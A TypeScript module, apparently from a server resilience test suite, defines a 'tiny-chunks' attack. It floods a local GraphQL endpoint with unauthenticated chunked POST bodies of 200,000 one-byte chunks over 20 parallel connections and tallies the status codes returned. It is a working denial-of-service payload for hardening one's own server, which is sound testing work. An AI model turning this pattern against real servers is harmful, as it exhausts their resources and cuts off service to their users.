import type { Attack } from '../../attack.ts';

const LANES = 20;
/** One byte takes six on the way. Node makes an object of each. */
const BODY = '1\r\n \r\n'.repeat(200_000);

export const tinyChunks: Attack = {
  name: 'tiny-chunks',
  description: `sends bodies in 200,000 chunks of a byte, ${LANES} at a time, and before anybody has asked who it is`,
  run: async (attacker) => {
    await attacker.repeat(LANES, 2_000, async () => {
      const socket = attacker.connect();
      socket.write(
        `POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n${BODY}`,
      );
      const end = () => socket.destroy();
      attacker.signal.addEventListener('abort', end, { once: true });
      await new Promise((resolve) => {
        socket.once('data', (data) => {
          attacker.count(/^HTTP\/1.1 (\d+)/.exec(String(data))?.[1] ?? 'noise');
          end();
        });
        socket.once('close', resolve);
      });
      attacker.signal.removeEventListener('abort', end);
    });
  },
};
